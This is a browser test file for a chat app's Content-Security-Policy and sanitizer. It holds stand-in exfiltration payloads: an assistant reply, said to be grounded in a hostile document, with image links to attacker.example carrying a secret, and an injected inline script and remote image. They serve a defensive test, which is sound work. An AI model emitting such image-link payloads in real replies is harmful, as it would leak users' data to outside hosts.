"""The Content-Security-Policy in real Chromium: every kind of HTML page (the app, the account
pages, admin, the API docs) carries a strict policy and works under it without one violation,
the app's own WebSocket is allowed, and what the policy is for is refused: inline scripts and
images from other sites, such as one a chat reply asks for to send data out."""

import re

import pytest
from playwright.sync_api import expect

from apps.chat.models import Message
from apps.chat.tests.factories import conversation, model_version

from .conftest import log_in
from .page_problems import watched_page

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.django_db(transaction=True)]
PASSWORD = "a-long-and-unusual-passphrase"
STRICT = {
    "default-src": "'self'",
    "object-src": "'none'",
    "base-uri": "'self'",
    "frame-ancestors": "'none'",
    "form-action": "'self'",
    "connect-src": "'self'",
    "img-src": "'self' data: blob:",
}


@pytest.fixture
def watched(browser, site_url):
    with watched_page(browser, site_url, {"width": 1366, "height": 768}, timeout_ms=20_000) as watched:
        yield watched


def assert_strict_policy(response) -> None:
    header = response.headers.get("content-security-policy")
    assert header, f"{response.url} has no Content-Security-Policy"
    directives = dict(part.strip().split(" ", 1) for part in header.split(";") if part.strip())
    for name, sources in STRICT.items():
        assert directives.get(name) == sources, f"{response.url}: {name} is {directives.get(name)!r}"
    for name in ("script-src", "style-src"):
        assert "'unsafe-inline'" not in directives[name] and "'unsafe-eval'" not in directives[name]


def test_every_kind_of_page_carries_a_strict_policy_and_works_under_it(watched, make_user, screenshot_dir):
    page, problems = watched
    # given a staff member (so admin opens too)
    user = make_user(password=PASSWORD, is_staff=True, is_superuser=True)

    # when the account pages are opened signed out
    for path in ("/accounts/login/", "/accounts/signup/"):
        assert_strict_policy(page.goto(path))
        expect(page.locator("form button[type=submit]")).to_be_visible()
        problems.settle(page)

    # and the app, admin and the API docs signed in
    log_in(page, user.email, PASSWORD)
    assert_strict_policy(page.goto("/"))
    # the app's live-updates socket is this origin's, which connect-src 'self' allows
    expect(page.get_by_test_id("live-indicator")).to_have_attribute("data-status", "open")
    # Base UI positions tooltips and locks scrolling under dialogs by setting element styles
    # from script, which the policy allows (unlike style attributes written in markup)
    page.get_by_test_id("live-indicator").hover()
    expect(page.get_by_text("Live updates are on.")).to_be_visible()
    page.goto("/datasets")
    page.get_by_role("button", name="New dataset").first.click()
    expect(page.get_by_role("dialog")).to_be_visible()
    problems.settle(page)
    page.screenshot(path=str(screenshot_dir / "dialog.png"))

    for path in ("/accounts/email/", "/accounts/password/change/"):
        assert_strict_policy(page.goto(path))
        expect(page.locator("form button[type=submit]").first).to_be_visible()
        problems.settle(page)

    for path in ("/admin/", "/admin/accounts/user/", f"/admin/accounts/user/{user.pk}/change/"):
        assert_strict_policy(page.goto(path))
        expect(page.locator("#content h1")).to_be_visible()
        problems.settle(page)

    assert_strict_policy(page.goto("/api/v1/docs/"))
    # the docs page's start-up script ran (it carries the nonce) and fetched the schema
    expect(page.locator(".swagger-ui .info .title")).to_contain_text("SloughGPT API")
    expect(page.locator(".opblock").first).to_be_visible()
    problems.settle(page)
    page.screenshot(path=str(screenshot_dir / "api-docs.png"))

    # then nothing was refused and nothing failed
    assert problems.all() == []


def test_a_remote_image_in_a_reply_is_shown_as_text_and_never_requested(watched, make_user, screenshot_dir):
    page, problems = watched
    # given a reply grounded in a hostile document, asking for an image that carries a secret
    user = make_user(password=PASSWORD)
    chat = conversation(user, model_version(user, write_file=False), title="Exfiltration")
    Message.objects.create(owner=user, conversation=chat, role=Message.Role.USER, content="Summarise it")
    Message.objects.create(
        owner=user, conversation=chat, role=Message.Role.ASSISTANT,
        content="Here is the chart: ![chart](https://attacker.example/collect?d=SECRET) and "
                '<img src="https://attacker.example/raw.png" alt="raw">',
    )
    requested = []
    page.route(re.compile(r"https?://attacker\.example/.*"),
               lambda route: (requested.append(route.request.url), route.abort()))
    log_in(page, user.email, PASSWORD)

    # when the conversation is opened
    assert_strict_policy(page.goto(f"/chat/{chat.pk}"))
    reply = page.get_by_test_id("assistant-message").last
    expect(reply).to_contain_text("[image: chart — blocked remote image]")
    problems.settle(page)
    page.screenshot(path=str(screenshot_dir / "blocked-image.png"))

    # then the images are text, no element points at the other site, nothing was requested,
    # and the policy had nothing to refuse (the sanitizer removed them first)
    expect(reply).to_contain_text("[image: raw — blocked remote image]")
    assert page.locator("img[src*='attacker.example']").count() == 0
    assert requested == []
    assert problems.all() == []


def test_the_policy_refuses_inline_scripts_and_remote_images(watched, make_user):
    page, problems = watched
    # given a signed-in page of the app
    user = make_user(password=PASSWORD)
    log_in(page, user.email, PASSWORD)
    page.goto("/")
    expect(page.get_by_role("heading", level=1)).to_be_visible()

    # when something slips past sanitizing: an inline script and a remote image
    page.evaluate("""() => {
        const script = document.createElement('script');
        script.textContent = 'window.injectedRan = true';
        document.body.append(script);
        const image = document.createElement('img');
        image.src = 'https://attacker.example/collect?d=SECRET';
        document.body.append(image);
    }""")
    problems.settle(page)

    # then neither runs or loads, and both are reported as violations
    assert page.evaluate("() => window.injectedRan") is None
    assert any(v.split(": ", 1)[1].startswith("script-src-elem refused inline") for v in problems.violations), problems.violations
    assert any("img-src refused https://attacker.example/" in v for v in problems.violations), problems.violations
